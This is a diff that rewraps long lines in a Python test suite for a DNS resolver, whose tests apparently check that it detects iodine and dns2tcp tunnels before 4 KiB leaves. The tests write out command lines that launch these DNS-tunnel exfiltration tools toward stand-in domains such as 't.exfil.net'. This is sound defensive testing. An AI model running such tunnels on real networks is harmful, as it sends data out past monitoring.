@@ -114,7 +114,8 @@ def tunnels(daemon):
 
 
 def leave(send, daemon, subject, arrived=None):
-    """Sends a little now and then, until the tunnel is named; the bytes that had left by then, or had arrived."""
+    """Sends a little now and then, until the tunnel is named; the bytes that had left by then, or had
+    arrived."""
     sent, end = 0, time.monotonic() + 60
     left = lambda: sent if arrived is None else len(arrived)
     while subject not in tunnels(daemon):
@@ -134,7 +135,8 @@ def test_iodine_is_named_before_it_took_4_kib(folder):
             running("iodined", "-f", "-c", "-P", "secret", "-l", IODINED, "-d", "health2", "203.0.113.129/29",
                     "t.exfil.net") as far:
         wait(lambda: "health2:" in open("/proc/net/dev").read(), 20, lambda: far.stdout.read1())
-        # -r: through the resolver even where the server would be in reach; -T TXT: what most resolvers let through.
+        # -r: through the resolver even where the server would be in reach; -T TXT: what most resolvers let
+        # through.
         with running(*inside, "iodine", "-f", "-r", "-P", "secret", "-m", "200", "-T", "TXT", "-d", "health3",
                      server.address4, "t.exfil.net"):
             state = lambda: subprocess.run([*inside, "ip", "-s", "-o", "link", "show", "health3"],
@@ -156,15 +158,18 @@ def test_dns2tcp_is_named_before_it_took_4_kib(folder):
             resolver(folder, more=forward("d.leak.com.", DNS2TCPD)) as (daemon, server):
         conf = os.path.join(folder, "dns2tcpd.conf")
         with open(conf, "w") as file:
-            file.write(f"listen = {DNS2TCPD}\nport = 53\nuser = nobody\nchroot = {folder}\ndomain = d.leak.com\n"
+            file.write(f"listen = {DNS2TCPD}\nport = 53\nuser = nobody\nchroot = {folder}\n"
+                       f"domain = d.leak.com\n"
                        f"resources = sink:127.0.0.1:{sink.getsockname()[1]}\n")
         sink.settimeout(30)
         with running("dns2tcpd", "-F", "-f", conf) as far:
             wait(lambda: servers_listen(DNS2TCPD), 20, lambda: far.stdout.read1())
             # Its standard input and output are the connection. It ends now and then, and is begun anew.
-            begin = lambda: subprocess.Popen([*inside, "dns2tcpc", "-z", "d.leak.com", "-r", "sink", "-l", "-",
-                                              server.address4], stdin=subprocess.PIPE,
-                                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            begin = lambda: subprocess.Popen(
+                [*inside, "dns2tcpc", "-z", "d.leak.com", "-r", "sink", "-l", "-", server.address4],
+                stdin=subprocess.PIPE,
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL)
             arrived, clients = bytearray(), [begin()]
 
             def read():
@@ -204,7 +209,8 @@ def servers_listen(address):
 
 
 class Forwarder(threading.Thread):
-    """A server that answers each query with one address, after a time that it chooses; from a moment on not."""
+    """A server that answers each query with one address, after a time that it chooses; from a moment on
+    not."""
 
     def __init__(self, address, delays):
         super().__init__(daemon=True)
@@ -246,7 +252,8 @@ def ask(server, names, between=0.01):
 
 @pytest.mark.xdist_group("watched")
 def test_a_slow_and_a_dying_forwarder(folder):
-    """Timeouts are those that the dead one left unanswered, percentiles those of the latencies in the records."""
+    """Timeouts are those that the dead one left unanswered, percentiles those of the latencies in the
+    records."""
     chance = random.Random(7)
     with addresses(SLOW, DYING):
         slow = Forwarder(SLOW, iter(lambda: chance.lognormvariate(-2.5, 0.5), None))
@@ -277,7 +284,9 @@ def test_a_slow_and_a_dying_forwarder(folder):
                     asked, answered, asked - answered], (found, asked, answered)
             assert found["timeouts"] < 50
             assert upstream(daemon, DYING)["responses"] == 20 and upstream(daemon, DYING)["timeouts"] >= 10
-            latencies = sorted(record["latency"] for record in told if record["message"] == "FORWARDER_RESPONSE")
+            latencies = sorted(record["latency"]
+                               for record in told
+                               if record["message"] == "FORWARDER_RESPONSE")
             assert len(latencies) >= 250
             for percent in (50, 95, 99):
                 exact = latencies[-(-len(latencies) * percent // 100) - 1]
@@ -309,7 +318,8 @@ def compare_cache(daemon, server, hits):
     queries.dig(server.address4, [f"{name} A" for name in names], network.CLIENTS4[0])
     time.sleep(1.5)
     daemon.settle()
-    theirs_hits, theirs_all, cached, fetched = (now - then for now, then in zip((*hits(), *cache(daemon)), before))
+    theirs_hits, theirs_all, cached, fetched = (now - then
+                                                for now, then in zip((*hits(), *cache(daemon)), before))
     ours, theirs = cached / (cached + fetched), theirs_hits / theirs_all
     assert theirs_all == len(names) == cached + fetched, (theirs_all, cached, fetched)
     assert 0.3 < theirs < 0.95 and abs(ours - theirs) < 0.03, (ours, theirs)
